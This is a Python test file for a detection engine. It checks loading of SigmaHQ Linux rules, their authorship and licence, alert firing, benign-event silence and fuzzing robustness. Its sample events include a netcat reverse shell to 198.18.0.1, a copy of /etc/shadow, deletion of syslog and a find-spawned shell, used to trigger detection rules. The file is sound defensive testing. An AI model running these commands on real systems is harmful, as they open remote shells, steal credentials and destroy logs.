"""Compatibility with the SigmaHQ Linux rules in ../shared/sigmahq (read in place, never copied)."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.detection import Engine, LoadReport, load_rules
from agent.events import Event, LogSource
from tests.detection.helpers import T0, proc

SIGMAHQ = Path(__file__).resolve().parents[2] / ".." / "shared" / "sigmahq"

pytestmark = pytest.mark.skipif(not SIGMAHQ.is_dir(), reason="SigmaHQ corpus not present")


@pytest.fixture(scope="module")
def report() -> LoadReport:
    return load_rules([], [SIGMAHQ])


def test_at_least_95_percent_compile_and_every_other_rule_has_a_reason(report: LoadReport) -> None:
    files = [p for p in SIGMAHQ.rglob("*.yml")]
    assert report.total == len(files) >= 240
    assert report.compiled / report.total >= 0.95, report.summary_line()
    assert not report.errors, [str(e) for e in report.errors]
    reasons = Counter(r.category for r in report.rejections)
    assert sum(reasons.values()) == report.total - report.compiled
    assert all(r.reason and r.rule_id and r.path.endswith(".yml") for r in report.rejections)
    assert any("LogonId" in r.reason for r in report.rejections)


def test_third_party_rules_are_marked_and_carry_their_author(report: LoadReport) -> None:
    refs = [r.ref for r in report.ruleset.detections]
    assert {r.ruleset for r in refs} == {"sigmahq"}
    assert all(r.license == "DRL-1.1" for r in refs)
    assert sum(bool(r.author) for r in refs) / len(refs) > 0.95


CASES = [
    # (rule id, event fields, author fragment)
    (
        "ea34fb97-e2c4-4afb-810f-785e4459b194",
        {"process.executable": "/usr/bin/curl", "process.command_line": "curl https://198.18.0.1/"},
        "Nasreddine Bencherchali",
    ),
    (
        "6adfbf8f-52be-4444-9bac-81b539624146",
        {"process.executable": "/usr/bin/find", "process.command_line": "find . -exec /bin/sh \\;"},
        "Bloomberg",
    ),
    (
        "fa4aaed5-4fe0-498d-bbc0-08e3346387ba",
        {"process.executable": "/bin/cp", "process.command_line": "cp /etc/shadow /tmp/s"},
        "Joseliyo Sanchez",
    ),
    (
        "3fcc9b35-39e4-44c0-a2ad-9e82b6902b31",
        {"process.executable": "/usr/bin/rm", "process.command_line": "rm -f /var/log/syslog"},
        "Max Altgelt",
    ),
    (
        "3f0f5957-04f8-4792-ad89-192b0303bde6",
        {
            "process.executable": "/usr/bin/python3.11",
            "process.command_line": "python3 -m http.server",
        },
        "Mohamed LAKRI",
    ),
    (
        "7f734ed0-4f47-46c0-837f-6ee62505abd9",
        {
            "process.executable": "/usr/bin/nc",
            "process.command_line": "nc 198.18.0.1 4444 -e /bin/bash",
        },
        "d4ns4n",
    ),
]


@pytest.mark.parametrize(("rule_id", "fields", "author"), CASES)
def test_sigmahq_rules_fire_on_matching_process_events(
    report: LoadReport, rule_id: str, fields: dict[str, str], author: str
) -> None:
    engine = Engine(report.ruleset)
    alerts = engine.process(proc(T0, **{k.replace(".", "__"): v for k, v in fields.items()}))
    hits = {a.rule.id: a for a in alerts}
    assert rule_id in hits, sorted(a.rule.title for a in alerts)
    assert author in hits[rule_id].rule.author
    assert hits[rule_id].rule.ruleset == "sigmahq"


def test_benign_process_events_raise_nothing(report: LoadReport) -> None:
    engine = Engine(report.ruleset)
    benign = [
        {"process.executable": "/usr/bin/ls", "process.command_line": "ls -la"},
        {"process.executable": "/usr/bin/git", "process.command_line": "git status"},
        {"process.executable": "/usr/sbin/nginx", "process.command_line": "nginx -g daemon off;"},
    ]
    for i, fields in enumerate(benign):
        assert not engine.process(
            proc(T0 + i, **{k.replace(".", "__"): v for k, v in fields.items()})
        )


values = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=True), st.text(max_size=40),
    st.lists(st.one_of(st.text(max_size=8), st.integers(), st.none()), max_size=4),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2), st.binary(max_size=8),
)
names = st.sampled_from(["process.executable", "process.command_line", "user.name",
                         "process.parent.executable", "process.pid", "destination.ip",
                         "destination.port", "message", "file.path", "a0", "type"])
logsources = st.sampled_from([
    LogSource("linux", "process_creation"), LogSource("linux", "network_connection"),
    LogSource("linux", "file_event"), LogSource("linux", None, "auditd"),
    LogSource("linux", None, "sshd"), LogSource("linux"), LogSource("windows", "x"),
])


@settings(max_examples=300, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(fields=st.dictionaries(names, values, max_size=6), logsource=logsources)
def test_hostile_field_values_never_crash_the_engine(
    report: LoadReport, fields: dict[str, object], logsource: LogSource
) -> None:
    engine = Engine(report.ruleset)
    engine.process(Event(T0, logsource, dict(fields)))
    engine.advance(T0 + 1000)
